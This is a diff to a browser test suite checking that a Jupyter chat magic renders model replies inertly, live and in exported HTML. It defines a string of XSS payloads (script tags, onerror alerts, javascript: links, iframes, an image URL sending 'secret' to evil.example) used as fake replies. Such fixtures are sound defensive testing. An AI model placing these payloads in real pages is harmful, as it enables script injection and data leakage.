@@ -7,11 +7,14 @@ import re
 from collections.abc import Iterator
 from pathlib import Path
 
+import nbformat
 import pytest
 from browser import JupyterServer, Lab, chromium
 from conftest import clean_environment
-from playwright.sync_api import Browser, Page, expect
-from service import Streamed, Wandb, listing, usage
+from nbclient import NotebookClient
+from nbconvert import HTMLExporter
+from playwright.sync_api import Browser, Dialog, Page, expect
+from service import Streamed, Wandb, listing, refused, usage
 
 pytestmark = pytest.mark.browser
 expect.set_options(timeout=60_000)
@@ -176,30 +179,85 @@ def _take_picture(lab: Lab) -> None:
     assert target.stat().st_size > 10_000
 
 
+HOSTILE = (
+    'Hello <img src="http://evil.example/a.png" onerror="alert(1)"> <script>alert(2)</script>\n\n'
+    "![pixel](http://evil.example/b.png?data=secret) [click](javascript:alert(3)) ![ref][r]\n\n"
+    "[r]: http://evil.example/c.png\n\n<iframe src='http://evil.example/d'></iframe>\n\n"
+    "| a |\n|---|\n| ![x](http://evil.example/e.png) | <img src=http://evil.example/e2>\n\n"
+    "```mermaid\ngraph TD; A-->B\n```\n\n</details> $x<img src=http://evil.example/f>$\n\n"
+    "    <img src=http://evil.example/h>\n\n[![x](http://evil.example/i)](http://ok.example)"
+)
+
+
+def hostile_stream() -> Streamed:
+    return Streamed(
+        pieces(HOSTILE),
+        per_second=100,
+        reasoning=["</details><img src=http://evil.example/g>", " ```"],
+        model="<img src=http://evil.example/m onerror=alert(4)>",
+    )
+
+
+class Watch:
+    """Notes what a page does that it should not: requests to the hostile host, and dialogs."""
+
+    def __init__(self, page: Page) -> None:
+        self.requests: list[str] = []
+        self.dialogs: list[str] = []
+        page.on("request", lambda request: self.requests.append(request.url))
+        page.on("dialog", self._dialog)
+
+    def _dialog(self, dialog: Dialog) -> None:
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def assert_nothing(self) -> None:
+        assert self.dialogs == []
+        assert [url for url in self.requests if "evil.example" in url] == []
+
+
 def test_a_hostile_reply_is_inert(server: JupyterServer, world: Wandb, page: Page) -> None:
     """No request leaves for another host, no dialog opens, no script runs, in a trusted, running notebook."""
-    hostile = (
-        'Hello <img src="http://evil.example/a.png" onerror="alert(1)"> <script>alert(2)</script>\n\n'
-        "![pixel](http://evil.example/b.png?data=secret) [click](javascript:alert(3)) ![ref][r]\n\n"
-        "[r]: http://evil.example/c.png\n\n<iframe src='http://evil.example/d'></iframe>\n\n"
-        "| a |\n|---|\n| ![x](http://evil.example/e.png) |\n\n```mermaid\ngraph TD; A-->B\n```\n\n</details> $x<img src=http://evil.example/f>$"
-    )
-    world.api.always = Streamed(
-        pieces(hostile), per_second=100, reasoning=["</details><img src=http://evil.example/g>"]
-    )
-    requests: list[str] = []
-    dialogs: list[str] = []
-    page.on("request", lambda request: requests.append(request.url))
-    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
-    lab = Lab.open(server, page, "hostile.ipynb", ["%load_ext wandb_inference_magic", "%%wbchat\nhi"])
+    world.api.always = hostile_stream()
+    watch = Watch(page)
+    cells = ["%load_ext wandb_inference_magic", "%%wbchat\nhi", "%%wbchat --format html\nhi", "%wbchat this fails"]
+    lab = Lab.open(server, page, "hostile.ipynb", cells)
     lab.run(0)
     lab.run(1)
-    rendered = lab.output(1)
-    expect(rendered).to_contain_text("Hello <img src=")
-    expect(rendered).to_contain_text("image: pixel (evil.example)")
-    assert rendered.locator("img, script, iframe").count() == 0
-    assert rendered.locator("a[href^='javascript']").count() == 0
-    # The footer stands outside what the reply could open.
-    expect(rendered.locator("small").last).to_contain_text("tokens")
-    assert dialogs == []
-    assert [url for url in requests if "evil.example" in url] == []
+    lab.run(2)
+    world.api.then(refused(400, HOSTILE))
+    lab.run(3)
+    for number in (1, 2):
+        rendered = lab.output(number)
+        expect(rendered).to_contain_text("Hello <img src=")
+        expect(rendered).to_contain_text("image: pixel (evil.example)")
+        assert rendered.locator("img, script, iframe").count() == 0
+        assert rendered.locator("a[href^='javascript']").count() == 0
+        # The footer stands outside what the reply could open.
+        expect(rendered.locator("small").last).to_contain_text("tokens")
+        assert rendered.locator("details small").count() == 0
+    expect(lab.output(3)).to_contain_text("did not accept the request")
+    assert lab.output(3).locator("img, script, iframe").count() == 0
+    watch.assert_nothing()
+
+
+def test_a_hostile_reply_is_inert_in_an_exported_page(
+    world: Wandb, page: Page, environment: dict[str, str], tmp_path: Path
+) -> None:
+    """nbconvert's page has a Markdown parser of its own and does not sanitise."""
+    world.api.always = hostile_stream()
+    sources = ["%load_ext wandb_inference_magic", "%%wbchat\nhi", "%%wbchat --format html\nhi", "%wbmodels --table"]
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in sources])
+    NotebookClient(notebook, timeout=120, resources={"metadata": {"path": str(tmp_path)}}).execute(
+        env=environment | world.environment | {"WANDB_API_KEY": "a-key"}
+    )
+    html, _ = HTMLExporter().from_notebook_node(notebook)
+    exported = tmp_path / "exported.html"
+    exported.write_text(html, encoding="utf-8")
+    watch = Watch(page)
+    page.goto(exported.as_uri(), wait_until="domcontentloaded")
+    outputs = page.locator(".jp-OutputArea-output")
+    expect(outputs.first).to_contain_text("Hello <img src=")
+    assert outputs.locator("img, script, iframe").count() == 0
+    assert outputs.locator("a[href^='javascript']").count() == 0
+    watch.assert_nothing()
